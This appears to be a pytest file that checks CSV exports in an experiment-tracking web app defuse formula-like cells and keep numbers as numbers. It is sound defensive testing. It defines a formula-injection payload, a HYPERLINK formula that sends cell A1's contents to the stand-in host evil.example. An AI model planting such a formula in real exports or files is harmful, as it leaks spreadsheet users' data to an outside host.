"""Issue 15, finding 6 (CSV half): exports are inert in a spreadsheet. Text cells that start like a
formula are defused in one place (app/web/csv_safe.py); numbers stay numbers. Through the real
routes (report series CSV, a run's epochs CSV) on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest
from apikit import STATS, Api

from app.web.csv_safe import safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-0.5, -0.5),
        (-3, -3),
        (1e-7, 1e-7),
        (True, "true"),
    ],
)
def test_safe_cell_defuses_formula_text_and_keeps_numbers(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_report_and_epoch_csv_defuse_names_and_config_values_and_keep_numbers(api: Api) -> None:
    run_ids = []
    for opt in ("-2+3", "@x"):
        run = api.sdk_run(name=FORMULA, config={"opt": opt})
        run_ids.append(run["id"])
        for epoch in range(1, 3):
            body = {"attempt": 1, "metrics": {"val_acc": -0.25 * epoch}, "stats": STATS}
            assert (
                api.client.put(
                    f"/api/v1/runs/{run['id']}/epochs/{epoch}", json=body, headers=api.worker
                ).status_code
                == 200
            )
    query = f"runs={run_ids[0]},{run_ids[1]}&stat=mean_sv&group=opt&x=opt&metric=mean_sv"
    report = api.client.post(
        "/api/v1/reports", json={"project": "p", "title": "t", "query": query}, headers=api.user
    )
    assert report.status_code == 201, report.text
    text = api.client.get(f"/api/v1/reports/{report.json()['id']}/series.csv", headers=api.user).text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), text
    curves = [row for row in rows[1:] if row[0] == "mean_sv"]
    assert curves and all(row[1] == "'" + FORMULA for row in curves)
    assert all(float(row[4]) > 0 and int(row[2]) in run_ids for row in curves)  # numbers stay numbers
    sweep = [row for row in rows[1:] if row[0].startswith("final")]
    assert {row[3] for row in sweep} == {"'-2+3", "'@x"}

    epochs = api.client.get(f"/api/v1/runs/{run_ids[0]}/epochs.csv", headers=api.user).text
    header, *lines = list(csv.reader(io.StringIO(epochs)))
    values = [float(line[header.index("val_acc")]) for line in lines]
    assert values == [-0.25, -0.5]  # a negative number is written as a number, not defused
    assert "-0.25" in epochs and "'-0.25" not in epochs
